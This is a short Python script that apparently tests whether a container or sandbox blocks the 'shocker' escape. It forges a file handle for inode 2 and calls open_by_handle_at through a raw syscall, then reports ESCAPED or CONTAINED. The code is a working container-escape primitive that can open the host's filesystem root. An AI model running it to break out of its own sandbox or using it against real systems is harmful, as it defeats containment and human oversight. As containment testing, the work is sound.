# open_by_handle_at with a forged handle (the "shocker" escape: inode 2 = root of an ext* filesystem).
import ctypes, errno, json, os, sys
P = json.loads(sys.stdin.read() or "{}")
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def sc(nr, *a):
    r = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(x) if isinstance(x, int) else x for x in a])
    return r, errno.errorcode.get(ctypes.get_errno(), "?")
class handle(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("f", ctypes.c_uint32 * 2)]
h = handle(8, 1, (ctypes.c_uint32 * 2)(2, 0))  # FILEID_INO32_GEN, ino 2, gen 0
mfd = os.open("/", os.O_RDONLY)
print("TRYING open_by_handle_at")
r, e = sc(304, mfd, ctypes.byref(h), os.O_RDONLY)
# The escape is the call being allowed at all: whether a forged handle then
# resolves depends on the filesystem (overlayfs answers ESTALE), so only a
# refusal (no capability, no syscall) counts as contained.
if r >= 0:
    print(f"ESCAPED open_by_handle_at opened {os.listdir(r)[:3]}")
elif e in ("EPERM", "ENOSYS"):
    print(f"CONTAINED open_by_handle_at ({e})")
else:
    print(f"ESCAPED open_by_handle_at reachable ({e})")
